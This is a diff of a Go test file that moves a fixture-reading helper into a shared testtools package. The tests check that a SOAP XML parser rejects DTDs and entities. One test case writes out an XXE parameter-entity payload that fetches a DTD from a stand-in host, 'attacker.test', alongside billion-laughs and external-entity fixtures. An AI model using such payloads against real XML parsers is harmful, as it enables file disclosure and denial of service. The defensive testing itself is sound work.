@@ -7,6 +7,8 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/trustbroker/trustbroker/internal/testtools"
 )
 
 const (
@@ -82,8 +84,8 @@ func TestParseRefusesDTDsAndEntities(t *testing.T) {
 		doc     []byte
 		wantErr error
 	}{
-		{"billion laughs", readTestdata(t, "requests/billion-laughs.xml"), ErrDTD},
-		{"external entity", readTestdata(t, "requests/external-entity.xml"), ErrDTD},
+		{"billion laughs", testtools.ReadTestdata(t, "requests/billion-laughs.xml"), ErrDTD},
+		{"external entity", testtools.ReadTestdata(t, "requests/external-entity.xml"), ErrDTD},
 		{"bare DOCTYPE", []byte(`<!DOCTYPE s:Envelope>` + env12("", pingBody)), ErrDTD},
 		{"parameter entity", []byte(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]>` + env12("", pingBody)), ErrDTD},
 		{"undeclared entity reference", []byte(env12("", `<s:Body><x:p xmlns:x="urn:x">&xxe;</x:p></s:Body>`)), nil},
@@ -110,7 +112,7 @@ func TestParseRefusesDTDsAndEntities(t *testing.T) {
 }
 
 func TestParseBOM(t *testing.T) {
-	raw := readTestdata(t, "requests/soap12-bom-adal-messageid.xml")
+	raw := testtools.ReadTestdata(t, "requests/soap12-bom-adal-messageid.xml")
 	if !bytes.HasPrefix(raw, utf8BOM) {
 		t.Fatal("test file lost its BOM")
 	}
